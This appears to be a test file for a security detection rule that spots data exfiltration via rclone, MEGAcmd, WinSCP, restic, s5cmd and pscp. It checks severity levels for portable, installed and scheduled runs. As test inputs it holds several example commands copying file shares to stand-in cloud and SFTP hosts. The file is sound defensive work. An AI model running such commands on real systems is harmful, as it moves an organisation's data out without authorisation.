import { describe, expect, it } from 'vitest'
import { exampleEvent } from '../../../core/correlation/example.ts'
import { carriedOut } from '../../../core/correlation/exfiltration-commands.ts'
import rule from '../../../core/correlation/rules/exfiltration.tool.rule.ts'
import { findRelations } from '../../support/case-builder.ts'

const ask = (program: string, text: string) =>
  carriedOut(program, text, (host) => host === 'ftp.corp.example')

describe('what a command carries out', () => {
  it.each([
    ['rclone.exe', 'rclone.exe copy D:\\Shares\\Finance mega:hal -q --transfers 12', 'rclone', 'mega:hal'],
    ['x.exe', 'x.exe --config c:\\r.conf copy \\\\fs01\\d$ gd1: --no-check-certificate', 'rclone', 'gd1:'],
    [
      'rclone.exe',
      'rclone move "D:\\My files" :sftp,host=203.0.113.9:up',
      'rclone',
      ':sftp,host=203.0.113.9:up',
    ],
    ['megacmd.exe', 'megacmd put x', 'MEGAcmd', 'x'],
    [
      'winscp.com',
      'WinSCP.com /command "open ftp://u:pw@203.0.113.9/" "put d:\\x"',
      'WinSCP',
      'ftp://u@203.0.113.9/',
    ],
    ['restic.exe', 'restic.exe -r s3:s3.x.example/b backup D:\\Shares', 'restic', 's3:s3.x.example/b'],
    ['s5cmd.exe', 's5cmd.exe cp "D:\\x\\*" s3://take/x', 's5cmd', 's3://take/x'],
    ['pscp.exe', 'pscp -pw x c:\\a.7z u@drop.example:/in', 'scp', 'drop.example'],
  ])('%s: %s', (program, text, tool, remote) => {
    expect(ask(program, text)).toMatchObject({ tool, remote })
  })

  it.each([
    ['rclone.exe', 'rclone.exe copy mega:x D:\\Restore'],
    ['rclone.exe', 'rclone.exe sync D:\\a E:\\b'],
    ['x.exe', 'x.exe copy D:\\a remote:b'],
    ['pscp.exe', 'pscp c:\\a u@10.0.0.5:/in'],
    ['pscp.exe', 'pscp c:\\a u@ftp.corp.example:/in'],
    ['aws.exe', 'aws s3 cp s3://b/a c:\\a'],
    ['winscp.com', 'WinSCP.com /command "open ftp://u@h/" "get /x c:\\"'],
  ])('spares %s: %s', (program, text) => {
    expect(ask(program, text)).toBeUndefined()
  })
})

describe('a tool that carries data out', () => {
  const day = 86_400
  const run = (seconds: number, processPath: string, commandLine: string, more = {}) =>
    exampleEvent('process-start', seconds, {
      processPath,
      pid: 5,
      account: 'CORP\\amber',
      commandLine,
      ...more,
    })
  const nightly = (path: string, nights: number) =>
    Array.from({ length: nights }, (_, night) =>
      run(night * day, path, `rclone.exe sync E:\\Backups offsite:b --log-file c:\\l\\2026030${night}.log`),
    )
  const found = (items: Parameters<typeof findRelations>[0]) => findRelations(items, [rule]).detections

  it('is medium, with the place it went to', () => {
    const [detection] = found([
      run(0, 'C:\\ProgramData\\Adobe\\rclone.exe', 'rclone.exe copy D:\\Shares mega:x'),
      exampleEvent('network-connection', 60, {
        processPath: 'C:\\ProgramData\\Adobe\\rclone.exe',
        pid: 5,
        action: 'outbound',
        destinationIp: '203.0.113.61',
        destinationHost: 'g.api.mega.example',
      }),
    ])
    expect(detection).toMatchObject({
      level: 'medium',
      reason: { key: 'rule.exfiltration.tool.reason.copied' },
    })
    expect(detection?.involved).toContain('g.api.mega.example')
  })

  it('is one low detection where an installed program does the same every night', () => {
    const path = 'C:\\Program Files\\rclone\\rclone.exe'
    expect(found(nightly(path, 3))).toMatchObject([
      { level: 'low', reason: { key: 'rule.exfiltration.tool.reason.recurring', params: { count: 3 } } },
    ])
  })

  it('stays medium where a portable one does it two nights running', () => {
    expect(found(nightly('C:\\ProgramData\\Adobe\\rclone.exe', 2)).map(({ level }) => level)).toEqual([
      'medium',
      'medium',
    ])
  })

  it('is low where a timer started an installed program once', () => {
    const parent = { parentCommandLine: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule' }
    expect(
      found([run(0, 'C:\\Program Files\\rclone\\rclone.exe', 'rclone sync E:\\B off:b', parent)]),
    ).toMatchObject([{ level: 'low', reason: { key: 'rule.exfiltration.tool.reason.scheduled' } }])
  })
})
